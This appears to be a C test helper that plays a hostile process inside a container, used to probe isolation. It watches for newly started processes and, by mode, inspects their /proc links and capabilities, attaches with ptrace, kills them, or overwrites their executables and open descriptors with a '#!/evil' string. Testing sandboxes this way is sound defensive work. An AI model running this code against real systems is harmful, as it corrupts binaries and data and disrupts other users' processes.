/*
 * A hostile process of a container: waits for processes that it did not start, and does to each what it can, as early as it can.
 *
 *   lurker look     prints "found" lines: capabilities, where exe, cwd, root and the descriptors lead to
 *   lurker trace    attaches as a tracer, and prints the capabilities of whom it got and whether memory could be written
 *   lurker kill     kills
 *   lurker write    writes to its executable, and to each descriptor's file
 *
 * A line "ready" comes first.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static int known[4096];

static void print_link(int pid, const char *name)
{
	char path[64], target[512];
	snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
	ssize_t length = readlink(path, target, sizeof target - 1);
	if (length > 0) {
		target[length] = 0;
		printf("found %s %s\n", name, target);
	}
}

static void print_capabilities(int pid, const char *how)
{
	char path[64], text[4096];
	snprintf(path, sizeof path, "/proc/%d/status", pid);
	int file = open(path, O_RDONLY);
	ssize_t length = file < 0 ? -1 : read(file, text, sizeof text - 1);
	close(file);
	if (length <= 0)
		return;
	text[length] = 0;
	char *name = strstr(text, "Name:\t"), *effective = strstr(text, "CapEff:\t"), *permitted = strstr(text, "CapPrm:\t");
	if (name && effective && permitted)
		printf("%s %.16s %.16s %.*s\n", how, effective + 8, permitted + 8, (int)strcspn(name + 6, "\n"), name + 6);
}

static void each_descriptor(int pid, void (*act)(int, const char *))
{
	char path[64], name[300];
	snprintf(path, sizeof path, "/proc/%d/fd", pid);
	DIR *directory = opendir(path);
	if (!directory)
		return;
	for (struct dirent *entry; (entry = readdir(directory));) {
		if (entry->d_name[0] == '.')
			continue;
		snprintf(name, sizeof name, "fd/%s", entry->d_name);
		act(pid, name);
	}
	closedir(directory);
}

static void overwrite(int pid, const char *name)
{
	char path[400];
	snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
	int file = open(path, O_WRONLY | O_NONBLOCK);
	if (file < 0)
		return;
	ssize_t count = write(file, "#!/evil\n", 8);
	static int pipes;
	struct stat status;
	/* Pipes may be written to, and are many: what is printed has to fit into one. */
	int pipe = !fstat(file, &status) && S_ISFIFO(status.st_mode);
	if (count > 0 && (!pipe || pipes++ < 50))
		print_link(pid, name), printf("wrote %s\n", name);
	close(file);
}

static void look(int pid)
{
	print_capabilities(pid, "found");
	print_link(pid, "exe");
	print_link(pid, "cwd");
	print_link(pid, "root");
	each_descriptor(pid, print_link);
}

static void attach(int pid)
{
	if (ptrace(PTRACE_SEIZE, pid, 0, 0)) {
		printf("refused %s\n", strerrorname_np(errno));
		return;
	}
	print_capabilities(pid, "traced");
	ptrace(PTRACE_INTERRUPT, pid, 0, 0);
	int status;
	if (waitpid(pid, &status, __WALL) == pid)
		ptrace(PTRACE_DETACH, pid, 0, 0);
}

int main(int count, char **words)
{
	const char *what = count > 1 ? words[1] : "look";
	setvbuf(stdout, NULL, _IOLBF, 0);
	int self = getpid();
	/* The next pid is known before its process is: look there, again and again. */
	for (int pid = 1; pid < 4096; pid++)
		known[pid] = !kill(pid, 0);
	printf("ready\n");
	int next = self + 1;
	for (;;) {
		for (int pid = next; pid < next + 64 && pid < 4096; pid++) {
			if (known[pid] || kill(pid, 0))
				continue;
			known[pid] = 1;
			if (!strcmp(what, "look"))
				look(pid);
			else if (!strcmp(what, "trace"))
				attach(pid);
			else if (!strcmp(what, "kill"))
				kill(pid, SIGKILL), printf("killed\n");
			else
				for (int i = 0; i < 100; i++)
					overwrite(pid, "exe"), each_descriptor(pid, overwrite);
			next = pid + 1;
		}
	}
}
